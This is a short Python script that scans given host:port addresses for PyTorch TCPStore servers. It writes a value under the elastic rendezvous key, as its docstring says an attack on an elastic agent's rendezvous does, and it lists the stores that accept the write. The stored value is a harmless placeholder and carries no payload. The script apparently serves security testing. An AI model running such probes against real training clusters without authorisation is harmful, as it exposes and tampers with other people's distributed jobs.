"""`python store_attack.py HOST:PORT ...` tries to set a value in a TCPStore at each of the
addresses, as the attack on an elastic agent's rendezvous does, and prints the addresses where it
can."""

import os
import sys
import threading
import time
from datetime import timedelta

from torch.distributed import TCPStore


def attack(address: str) -> None:
    host, _, port = address.rpartition(":")
    key = "/torch.rendezvous.none"
    store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=2))
    store.set(key, "a pickle")
    if store.get(key) == b"a pickle":
        print(address, flush=True)


if __name__ == "__main__":
    threading.excepthook = lambda args: None
    for address in sys.argv[1:]:
        threading.Thread(target=attack, args=[address], daemon=True).start()
    time.sleep(2)  # against what is no store the constructor waits for ever
    os._exit(0)
